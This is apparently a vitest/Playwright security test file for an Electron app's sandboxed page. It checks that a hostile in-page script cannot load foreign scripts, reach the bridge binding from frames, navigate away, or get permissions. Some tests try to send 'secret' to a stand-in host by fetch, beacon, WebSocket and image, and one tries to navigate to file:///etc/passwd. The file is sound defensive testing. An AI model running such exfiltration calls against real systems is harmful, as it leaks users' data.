import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { pageOrigin } from '../../../electron/contract/bridge.ts';
import { openTestShell, pageReady, soon } from './shell-fixture.ts';

/** What a hostile script in the page, in the real browser, can and can't do. */

let shell: Awaited<ReturnType<typeof openTestShell>>;
beforeAll(async () => {
  shell = await openTestShell();
  await pageReady(shell.page);
});
afterAll(() => shell.end());

const settled = () => new Promise((resolve) => setTimeout(resolve, 300));

describe('script', () => {
  test('the page has its own script and styles run, in a secure context', async () => {
    expect(await shell.page.evaluate('isSecureContext')).toBe(true);
    expect(await shell.page.title()).toBe('test page');
  });

  test('inline script does not run', async () => {
    expect(await shell.page.evaluate('window.inlineRan')).toBeUndefined();
  });

  test('text does not become script by eval or Function', async () => {
    expect(await shell.page.evaluate('window.found')).toMatchObject({
      eval: 'EvalError',
      Function: 'EvalError',
    });
  });

  test('a script of another origin is not loaded', async () => {
    const loaded = await shell.page.evaluate(
      () =>
        new Promise((resolve) => {
          const script = document.createElement('script');
          script.src = 'https://elsewhere.invalid/page.js';
          script.onload = () => resolve(true);
          script.onerror = () => resolve(false);
          document.head.append(script);
        }),
    );
    expect(loaded).toBe(false);
  });

  test('a style element needs the nonce of its document, which the page finds in its meta element', async () => {
    const colours = await shell.page.evaluate(() => {
      const nonce = document.querySelector<HTMLMetaElement>('meta[name=csp-nonce]')?.content ?? '';
      const colourWith = (given: string) => {
        const style = document.createElement('style');
        style.nonce = given;
        style.textContent = '#styled { background-color: rgb(9, 9, 9) }';
        document.head.append(style);
        const colour = getComputedStyle(document.querySelector('#styled') as Element).backgroundColor;
        style.remove();
        return colour;
      };
      return { with: colourWith(nonce), without: colourWith('') };
    });
    expect(colours).toEqual({ with: 'rgb(9, 9, 9)', without: 'rgba(0, 0, 0, 0)' });
  });

  test('every document has another nonce', async () => {
    const nonce = () =>
      shell.page.evaluate(() => document.querySelector<HTMLMetaElement>('meta[name=csp-nonce]')?.content);
    const first = await nonce();
    await shell.page.reload();
    expect(await nonce()).not.toBe(first);
  });

  test('style attributes in markup are ignored', async () => {
    expect(await shell.page.locator('#styled').evaluate((node) => getComputedStyle(node).color)).not.toBe(
      'rgb(1, 2, 3)',
    );
  });
});

describe('bridge', () => {
  test('is two frozen functions, and the raw binding is out of reach', async () => {
    expect(await shell.page.evaluate('window.found')).toMatchObject({
      bridge: ['send: function', 'listen: function'],
      frozen: true,
      rawBinding: 'undefined',
    });
  });

  test('can be neither replaced nor removed', async () => {
    expect(
      await shell.page.evaluate(() => {
        const before = (window as unknown as { branchTeller: unknown }).branchTeller;
        Reflect.set(window, 'branchTeller', null);
        Reflect.deleteProperty(window, 'branchTeller');
        return (window as unknown as { branchTeller: unknown }).branchTeller === before;
      }),
    ).toBe(true);
  });

  test('does not exist in a frame, and a frame that gets hold of the binding is refused', async () => {
    // about:blank frames share the page's origin, so only the main-frame rule stands between them and the desk.
    const inFrame = await shell.page.evaluate(async () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inner = frame.contentWindow as unknown as Record<string, unknown>;
      return [typeof inner.branchTeller, typeof inner.branchTellerShell];
    });
    expect(inFrame).toEqual(['undefined', 'undefined']);

    // What lies under the driver's binding, which a script in the page can find.
    const sendRaw = (text: string) =>
      (
        window as unknown as {
          __playwright__binding__controller__?: { callBinding(...call: string[]): Promise<void> };
        }
      ).__playwright__binding__controller__
        ?.callBinding('branchTellerShell', 'send', text)
        .then(
          () => 'sent',
          (error: Error) => error.message,
        );
    const [main, frame] = shell.page.frames();
    expect(await main?.evaluate(sendRaw, 'from the page')).toBe('sent');
    expect(await frame?.evaluate(sendRaw, 'from the frame')).toBe('not for this frame');
    await expect.poll(() => shell.page.evaluate('window.heard'), soon).toContain('from the page');
    expect(await shell.page.evaluate('window.heard')).not.toContain('from the frame');
  });

  test('carries text and bytes in order, both ways', async () => {
    const heard = await shell.page.evaluate(async () => {
      const { heard, branchTeller } = window as unknown as {
        heard: (string | Uint8Array)[];
        branchTeller: { send(message: string | Uint8Array): void };
      };
      heard.length = 0;
      for (let index = 0; index < 500; index++)
        branchTeller.send(index % 2 === 0 ? `${index}` : new Uint8Array([index & 0xff, index >> 8]));
      while (heard.length < 500) await new Promise((resolve) => setTimeout(resolve, 5));
      return heard.map((message) =>
        message instanceof Uint8Array ? (message[0] ?? 0) + (message[1] ?? 0) * 256 : Number(message),
      );
    });
    expect(heard).toEqual(Array.from({ length: 500 }, (_, index) => index));
  });

  test('takes no object and nothing larger than the limit', async () => {
    const rejected = await shell.page.evaluate(async () => {
      const reasons: string[] = [];
      addEventListener('unhandledrejection', (event) => reasons.push(String(event.reason)));
      const { branchTeller } = window as unknown as { branchTeller: { send(message: unknown): void } };
      branchTeller.send({ channel: 'stop' });
      branchTeller.send('x'.repeat(16 * 1024 * 1024 + 1));
      while (reasons.length < 2) await new Promise((resolve) => setTimeout(resolve, 20));
      return reasons;
    });
    expect(rejected).toEqual([
      expect.stringContaining('not a message'),
      expect.stringContaining('not a message'),
    ]);
  });
});

describe('leaving', () => {
  test.each([
    ['another origin', 'https://elsewhere.invalid/'],
    ['the same name without TLS', 'http://teller.invalid/'],
    ['a look-alike with credentials', 'https://teller.invalid@elsewhere.invalid/'],
    ['a file', 'file:///etc/passwd'],
    ['data:', 'data:text/html,<h1>elsewhere</h1>'],
  ])('navigation to %s leaves the page where it is', async (_, url) => {
    const before = await shell.page.evaluate('window.documentNumber');
    await shell.page.evaluate((target) => {
      location.href = target;
    }, url);
    await settled();
    expect(shell.page.url()).toBe(`${pageOrigin}/`);
    expect(await shell.page.evaluate('window.documentNumber')).toBe(before);
  });

  test('a window that finds itself elsewhere is brought back', async () => {
    // Dropping a file on the window does what this does.
    await shell.page.goto('about:blank').catch(() => {});
    await shell.page.waitForURL(`${pageOrigin}/`);
  });

  test('no second window, neither by script nor by a link', async () => {
    const opened = await shell.page.evaluate(() => {
      const link = Object.assign(document.createElement('a'), { href: '/', target: '_blank' });
      document.body.append(link);
      link.click();
      return window.open('/') === null;
    });
    await settled();
    expect(opened).toBe(true);
    expect(shell.page.context().pages()).toHaveLength(1);
  });

  test('a window a person opens is closed', async () => {
    const other = await shell.page.context().newPage();
    if (!other.isClosed()) await other.waitForEvent('close');
    expect(shell.page.context().pages()).toEqual([shell.page]);
  });

  test.each([
    ['fetch', () => fetch('https://elsewhere.invalid/', { method: 'POST', body: 'secret', mode: 'no-cors' })],
    ['fetch of the page itself', () => fetch('/page.js')],
    [
      'a beacon',
      async () => {
        if (!navigator.sendBeacon('https://elsewhere.invalid/', 'secret')) throw new Error('refused');
      },
    ],
    [
      'a web socket',
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket('wss://elsewhere.invalid/');
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
    ],
    [
      'a picture elsewhere',
      () =>
        new Promise((resolve, reject) => {
          const picture = new Image();
          picture.onload = resolve;
          picture.onerror = reject;
          picture.src = 'https://elsewhere.invalid/?secret';
        }),
    ],
  ])('nothing leaves by %s', async (name, attempt) => {
    await shell.page.evaluate(() => {
      const violated: string[] = [];
      Object.assign(window, { violated });
      document.addEventListener(
        'securitypolicyviolation',
        (event) => void violated.push(event.effectiveDirective),
        { once: true },
      );
    });
    await shell.page.evaluate<unknown>(attempt).catch(() => {});
    await expect
      .poll(() => shell.page.evaluate('window.violated'))
      .toEqual([name === 'a picture elsewhere' ? 'img-src' : 'connect-src']);
  });

  test('a form goes nowhere, and its submit event still reaches the page', async () => {
    const submitted = await shell.page.evaluate(() => {
      let events = 0;
      addEventListener('submit', () => {
        events++;
      });
      const form = document.querySelector('form') as HTMLFormElement;
      form.action = 'https://elsewhere.invalid/';
      form.requestSubmit();
      return events;
    });
    await settled();
    expect(submitted).toBe(1);
    expect(shell.page.url()).toBe(`${pageOrigin}/`);
  });
});

describe('permissions', () => {
  test('the camera photographs papers: the page alone may use it', async () => {
    const state = await shell.page.evaluate(
      async () => (await navigator.permissions.query({ name: 'camera' as PermissionName })).state,
    );
    expect(state).toBe('granted');
  });

  test.each(['microphone', 'geolocation', 'notifications', 'clipboard-read', 'midi'])(
    '%s is denied without a question',
    async (name) => {
      const state = await shell.page.evaluate(
        async (permission) =>
          (await navigator.permissions.query({ name: permission as PermissionName })).state,
        name,
      );
      expect(state).toBe('denied');
    },
  );

  test('no device of any kind can be asked for', async () => {
    const answers = await shell.page.evaluate(async () => {
      const devices = navigator as unknown as Record<
        string,
        { requestDevice(options: object): Promise<unknown> }
      >;
      return Promise.all(
        ['usb', 'hid'].map((kind) =>
          devices[kind]?.requestDevice({ filters: [] }).then(
            () => 'granted',
            (error: DOMException) => error.name,
          ),
        ),
      );
    });
    expect(answers).toEqual(['SecurityError', 'SecurityError']);
  });
});
